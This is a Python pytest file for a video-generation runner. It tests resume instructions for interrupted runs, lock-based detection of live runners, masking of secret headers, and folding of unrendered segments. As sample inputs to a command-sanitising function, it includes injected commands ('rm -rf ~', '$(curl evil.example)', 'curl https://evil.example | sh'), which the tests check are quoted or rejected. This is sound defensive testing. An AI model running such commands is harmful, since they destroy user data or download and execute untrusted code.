"""A run that ended before it was complete: how to resume it, what is interrupted, and what is under way after all."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from runner.reports.command_line import resume_command
from runner.reports.report import report_directory, report_run
from runner.state.event import Event
from runner.state.events import RunInterrupted
from runner.state.run_directory import RunDirectory
from runner.state.run_lock import is_runner_at_work
from tests.runner.reports.run_page import Page, Run
from tests.runner.reports.test_report import fail, finish, give_up, submit
from tests.support.journal_events import run_finished, run_started, running
from tests.support.stories import small_story

COMMAND = "videogen run story.json --out run"


@pytest.fixture
def begun(tmp_path: Path) -> Iterator[Run]:
    """Segment 1 is done, 2 was begun, nothing is known of 3 to 6."""
    made = Run(tmp_path / "run", small_story("A Tree", segments=6), command=COMMAND, folder="/films")
    made.journal.append(run_started([1, 2, 3, 4, 5, 6]))
    made.add_segment(1)
    submit(made.journal, 2)
    made.journal.append(running(2))
    yield made
    made.journal.close()


@pytest.fixture
def owner(begun: Run) -> Iterator[None]:
    """A process that holds the lock of the run directory, as a runner does."""
    code = (
        "import sys; from pathlib import Path; from runner.state.run_directory import RunDirectory\n"
        "with RunDirectory(Path(sys.argv[1]), 'A Tree'): print('locked', flush=True); sys.stdin.read()"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code, str(begun.path)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert process.stdin is not None
    assert process.stdout is not None
    assert process.stdout.readline() == "locked\n"
    yield
    process.stdin.close()
    assert process.wait(timeout=20) == 0
    process.stdout.close()


def states_of(page: Page) -> list[str]:
    """The words for its state that a page shows."""
    return [word for word in ("interrupted", "under way", "Interrupted", "Under way") if f" {word} " in page.words]


# ------------------------------------------------------------------ interrupted, or under way


@pytest.mark.parametrize("events", [[RunInterrupted()], []], ids=["stopped with Ctrl-C", "killed"])
def test_an_interrupted_run_says_how_to_resume_it(begun: Run, events: list[Event]) -> None:
    for event in events:
        begun.journal.append(event)
    page = Page(begun.write())
    assert (
        f"The run was interrupted. To resume it, run this in /films ; segments that are done are kept. {COMMAND}"
        in (page.words)
    )
    assert states_of(page) == ["interrupted", "Interrupted"]
    assert "Rendering it was interrupted." in page.words
    report = report_directory(begun.path)
    assert (report["running"], report["resumable"], report["resume"]) == (False, True, COMMAND)
    assert [segment["interrupted"] for segment in report["segments"]] == [False, True, False, False, False, False]
    assert report["runs"][-1]["end"] == ("interrupted" if events else "stopped")


def test_a_run_whose_runner_is_alive_is_under_way(begun: Run, owner: None) -> None:
    page = Page(begun.write())
    assert states_of(page) == ["under way", "Under way"]
    assert "It is being rendered." in page.words
    assert "To resume it" not in page.words
    assert "Segments 3–6 are not rendered yet" in page.words
    report = report_directory(begun.path)
    assert (report["running"], report["resumable"], report["runs"][-1]["end"]) == (True, False, None)


def test_a_segment_of_an_earlier_run_is_interrupted_while_the_next_run_is_under_way(begun: Run, owner: None) -> None:
    begun.journal.append(RunInterrupted())
    begun.journal.append(run_started([3, 4]))
    submit(begun.journal, 3)
    segments = report_directory(begun.path)["segments"]
    assert [segment["interrupted"] for segment in segments[1:3]] == [True, False]


def test_a_report_by_the_runner_itself_is_about_a_run_that_is_over(begun: Run) -> None:
    """It holds the lock while it reports why it ends."""
    begun.journal.close()
    with RunDirectory(begun.path, "A Tree") as directory:
        report = report_run(begun.path, directory.journal)
        assert is_runner_at_work(begun.path)
    assert (report["running"], report["segments"][1]["interrupted"]) == (False, True)


def test_a_finished_run_is_not_resumed(tmp_path: Path) -> None:
    run = Run(tmp_path / "run", small_story("A Tree", segments=2), command=COMMAND)
    run.journal.append(run_started([1]))
    run.add_segment(1)
    run.journal.append(run_finished(rendered=1))
    page = Page(run.write())
    run.journal.close()
    assert "Incomplete" in page.words
    assert "To resume it" not in page.words


def test_failed_segments_are_tried_again_with_the_same_command(tmp_path: Path) -> None:
    run = Run(tmp_path / "run", small_story("A Tree", segments=2), command=f"{COMMAND} --header 'Key: secret'")
    run.journal.append(run_started([1, 2]))
    submit(run.journal, 1)
    fail(run.journal, 1, "node error", "given up")
    give_up(run.journal, 1)
    submit(run.journal, 2)
    finish(run.journal, 2)
    run.journal.append(run_finished(rendered=1, failed=[1]))
    words = Page(run.write()).words
    run.journal.close()
    assert "Some segments failed. To try them again, run this; segments that are done are kept." in words
    assert "--header 'Key: ***' Replace *** with the header or key, which is not stored here." in words


# ------------------------------------------------------------------ the lock


@pytest.mark.parametrize("content", ["", '{"pid": 1, "started": 0}'])
def test_a_lock_that_no_process_holds_counts_for_nothing(tmp_path: Path, content: str) -> None:
    (tmp_path / "runner.lock").write_text(content)
    (tmp_path / "runner.pid").write_text(f"{os.getpid()} {psutil.Process().create_time()}")
    assert not is_runner_at_work(tmp_path)


@pytest.mark.parametrize(
    ("owner", "is_alive"),
    [
        (f"{os.getpid()} {psutil.Process().create_time()}", True),
        (f"{os.getpid()} 1", False),
        (f"{2**31 - 1} 1", False),
        ("", False),
        (f"{10**30} 1", False),
    ],
    ids=["alive", "used again", "dead", "empty", "too large"],
)
def test_without_locks_of_the_system_the_owner_is_looked_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, owner: str, is_alive: bool
) -> None:
    monkeypatch.setattr("runner.state.run_lock.fcntl", None)
    (tmp_path / "runner.pid").write_text(owner)
    assert is_runner_at_work(tmp_path) == is_alive


def test_a_directory_without_a_lock_has_no_runner(tmp_path: Path) -> None:
    assert not is_runner_at_work(tmp_path)


# ------------------------------------------------------------------ the command


@pytest.mark.parametrize(
    ("command", "resumed"),
    [
        (COMMAND, COMMAND),
        ("videogen run 'my story.json' --fresh --takes 2", "videogen run 'my story.json' --takes 2"),
        ("videogen run --fre", "videogen run"),
        ("videogen run --frames 12 --fr 3", "videogen run --frames 12 --fr 3"),
        ("videogen run 'unclosed --fresh", None),
        # Of somebody else's run.json.
        ("videogen run a.json; rm -rf ~", "videogen run 'a.json;' rm -rf '~'"),
        ("videogen run $(curl evil.example)", "videogen run '$(curl' 'evil.example)'"),
        ("curl https://evil.example | sh", None),
        ("", ""),
        ("   ", None),
        (None, None),
    ],
)
def test_the_command_resumes_and_does_not_begin_again(command: str | None, resumed: str | None) -> None:
    assert resume_command(command) == resumed


def test_a_run_whose_command_is_unknown_names_the_way(tmp_path: Path) -> None:
    run = Run(tmp_path / "run", small_story("A Tree", segments=2))
    run.journal.append(run_started([1, 2]))
    run.journal.append(RunInterrupted())
    words = Page(run.write()).words
    run.journal.close()
    assert "To resume it, run the same command again; segments that are done are kept." in words


# ------------------------------------------------------------------ folded cards


def test_neighbors_that_are_not_rendered_are_one_line(begun: Run) -> None:
    submit(begun.journal, 5)
    finish(begun.journal, 5)
    page = Page(begun.write())
    assert [summary for summary in page.summaries if "rendered" in summary] == [
        "Segments 3, 4 are not rendered",
        "Segment 6 is not rendered",
    ]
    assert {attributes["id"] for attributes in page.all("article")} == {f"segment-{n}" for n in (1, 2, 5)}
    # The contact sheet leads to every segment, folded or not.
    targets = {attributes["id"] for _, attributes in page.tags if "id" in attributes}
    assert {a["href"].removeprefix("#") for a in page.all("a") if a["href"].startswith("#")} <= targets
    assert "03 The man waters the young tree, shot 3." in page.words


def test_a_segment_that_failed_before_it_was_submitted_keeps_its_card(begun: Run) -> None:
    fail(begun.journal, 4, "fatal", "given up", "it continues segment 3, which is not rendered")
    page = Page(begun.write())
    assert "segment-4" in {attributes["id"] for attributes in page.all("article")}
    assert [summary for summary in page.summaries if "rendered" in summary] == [
        "Segment 3 is not rendered",
        "Segments 5, 6 are not rendered",
    ]
